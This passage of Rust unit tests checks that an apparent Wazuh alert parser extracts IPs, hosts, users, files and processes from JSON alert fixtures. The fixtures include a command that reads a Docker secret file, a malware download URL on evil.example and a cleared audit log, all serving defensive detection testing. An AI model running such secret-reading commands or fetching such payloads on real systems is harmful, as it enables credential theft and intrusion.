    let (from, to) = (&actors.sources[0], &actors.destinations[0]);
    assert_eq!(
        (from.ip.as_deref(), from.host.as_deref()),
        (Some("10.0.0.1"), Some("ws-1"))
    );
    assert_eq!(
        (to.ip.as_deref(), to.host.as_deref(), to.port),
        (Some("203.0.113.9"), Some("evil.example"), Some(443))
    );
    assert_eq!(
        (actors.destinations.len(), actors.domains.as_slice()),
        (1, &["evil.example".into()][..])
    );
    let explicit = alert(&json!({"data": {"win": {"eventdata": {"targetServerName": "dc01.corp.example"}}}}));
    assert_eq!(
        explicit.actors().destinations[0].host.as_deref(),
        Some("dc01.corp.example")
    );
    let finding =
        alert(&json!({"wazuh": {"rule": {"id": "x"}}, "destination": {"domain": "evil.example", "ip": "203.0.113.9"}}));
    assert_eq!(finding.actors().destinations[0].host.as_deref(), Some("evil.example"));
}

#[test]
fn actors_are_read_where_no_field_names_them() {
    let ssh = alert(
        &json!({"rule": {"groups": ["sshd"]}, "full_log": "Jan 20 09:02:17 web01 sshd[17]: Failed password for invalid user admin from 203.0.113.9 port 4022 ssh2"}),
    );
    let actors = ssh.actors();
    assert_eq!(
        (
            actors.sources[0].ip.as_deref(),
            actors.sources[0].port,
            actors.users[0].name.as_ref()
        ),
        (Some("203.0.113.9"), Some(4022), "admin")
    );
    let named = alert(&json!({"data": {"srcip": "host.evil.example", "srcport": "22"}}));
    assert_eq!(
        (named.actors().sources[0].host.as_deref(), named.actors().sources.len()),
        (Some("host.evil.example"), 1)
    );
    let cleared = alert(
        &json!({"data": {"win": {"system": {"eventID": "1102", "providerName": "Microsoft-Windows-Eventlog", "message": "\"The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tS-1-5-21-1-500\r\n\tAccount Name:\twardog\r\n\tDomain Name:\tCORP\""}}}}),
    );
    assert_eq!(
        (
            cleared.actors().users[0].name.as_ref(),
            cleared.actors().users[0].domain.as_deref()
        ),
        ("wardog", Some("CORP"))
    );
    let rootkit = alert(
        &json!({"location": "rootcheck", "data": {"title": "Rootkit 'Adore' detected by the presence of file '/usr/lib/libt'."}}),
    );
    assert_eq!(rootkit.actors().files, ["/usr/lib/libt"]);
    let shell = labelled("docker_exec_shell");
    assert_eq!(
        shell.actors().process.unwrap().command_line.as_deref(),
        Some("/bin/sh -c cat /run/secrets/db_password")
    );
    let virus = alert(
        &json!({"data": {"win": {"eventdata": {"path": "containerfile:_C:\\\\a.zip; file:_C:\\\\a.zip->x.exe; webfile:_C:\\\\b.exe|http://evil.example/b.exe|pid:1", "detection User": "CORP\\\\j.doe", "process Name": "C:\\\\explorer.exe"}}}}),
    );
    let actors = virus.actors();
    assert_eq!(actors.files, ["C:\\a.zip", "C:\\b.exe"]);
    assert_eq!(actors.users[0].name, "CORP\\j.doe");
}

#[test]
fn the_agent_is_the_asset_unless_it_is_the_manager() {
    let alert = labelled("certutil_download");
    let assets = alert.assets();
    assert_eq!(
        (assets[0].name.as_str(), assets[0].ip.as_deref(), assets[0].os),
        ("WS-HR-007", Some("10.20.4.77"), Some(Os::Windows))
    );
    assert_eq!(assets[0].agent_id.as_deref(), Some("006"));
    assert_eq!(labelled("sudo_apt_upgrade").assets()[0].os, Some(Os::Linux));
    assert_eq!(labelled("agent_disconnected").assets(), []);
    assert_eq!(alert_of_ssh().assets(), []);
    let agentless =
        Alert::from_slice(br#"{"agentless":{"script":"ssh_integrity","user":"root","host":"root@fw1"}}"#).unwrap();
    assert_eq!(
        (agentless.assets()[0].name.as_str(), agentless.assets().len()),
        ("fw1", 1)
    );
}
